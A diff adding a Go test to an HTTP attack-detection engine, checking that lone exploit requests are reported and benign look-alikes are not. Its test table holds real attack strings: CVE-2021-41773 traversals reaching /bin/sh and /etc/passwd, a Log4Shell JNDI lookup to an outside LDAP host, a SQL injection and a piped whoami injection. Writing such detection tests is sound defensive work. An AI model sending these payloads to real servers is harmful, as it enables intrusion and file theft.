@@ -2,6 +2,7 @@ package detect
 
 import (
 	"fmt"
+	"strings"
 	"testing"
 	"time"
 
@@ -71,6 +72,70 @@ func TestBrokenLinkIsNoCampaign(t *testing.T) {
 	if got := campaignRun(t, 30, probe, status); len(got) != 1 || got[0].ClientCount != 30 {
 		t.Errorf("probers of the path: %d findings, want one campaign of 30", len(got))
 	}
+}
+
+// TestLoneExploitIsReported: one request that is an attack by itself (a
+// traversal out of the web root, CVE-2021-41773's "/cgi-bin/.%2e/.%2e/",
+// a Log4Shell lookup) from one client is reported, as a rule engine
+// would, also when the engine was restored from a snapshot taken before
+// its window closed; one relative link passed in a parameter, or one odd
+// search term, is not.
+func TestLoneExploitIsReported(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		path string
+		want string // the campaign, "" for none
+	}{
+		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "cgi-bin"},
+		{"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "secrets"},
+		{"/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", "injection"},
+		{"/download?file=..%2F..%2F..%2Fetc%2Fhostname", "injection"},
+		{"/account/login?next=..%2Fsettings", ""},
+		{"/api/search?q=1%27%20OR%20%271%27%3D%271", ""},
+		{"/api/ping?host=127.0.0.1%7Cwhoami", ""},
+	}
+	for _, tt := range tests {
+		for _, snap := range []bool{false, true} {
+			got := loneRequest(t, tt.path, snap)
+			switch {
+			case tt.want == "" && len(got) != 0:
+				t.Errorf("%s (snapshot %v): reported %s %s, want nothing", tt.path, snap, got[0].Detector, got[0].Campaign)
+			case tt.want != "" && (len(got) != 1 || got[0].Campaign != tt.want || got[0].ClientCount != 1):
+				t.Errorf("%s (snapshot %v): %d findings %+v, want campaign %q of the one client", tt.path, snap, len(got), got, tt.want)
+			}
+		}
+	}
+}
+
+// loneRequest runs half an hour of an ordinary client, then one GET of
+// target from another client, and returns the findings opened. With
+// snap, the engine is snapshotted and restored before the window closes.
+func loneRequest(t *testing.T, target string, snap bool) []Finding {
+	t.Helper()
+	var got []Finding
+	opts := Options{CampaignGap: -1, Emit: func(f Finding) {
+		if f.Status == StatusOpen {
+			got = append(got, f)
+		}
+	}}
+	e := New(opts)
+	var ev ingest.Event
+	for i := range 60 {
+		ev.Reset()
+		ev.Time = t0.Add(time.Duration(i) * 30 * time.Second)
+		ev.ClientKey, ev.ClientKind, ev.Method, ev.Path, ev.Route, ev.Status = "198.51.100.1", ingest.ClientIP, "GET", "/", "/", 200
+		e.Observe(&ev)
+	}
+	ev.Reset()
+	ev.Time = t0.Add(30 * time.Minute)
+	path, query, _ := strings.Cut(target, "?")
+	ev.ClientKey, ev.ClientKind, ev.Method, ev.Path, ev.Route, ev.Query, ev.Status = "203.0.113.9", ingest.ClientIP, "GET", path, path, query, 404
+	e.Observe(&ev)
+	if snap {
+		e = roundTrip(t, opts, e)
+	}
+	e.Flush()
+	return got
 }
 
 // TestCampaignNamesSpreadHeavyClient: a client trying once a window for
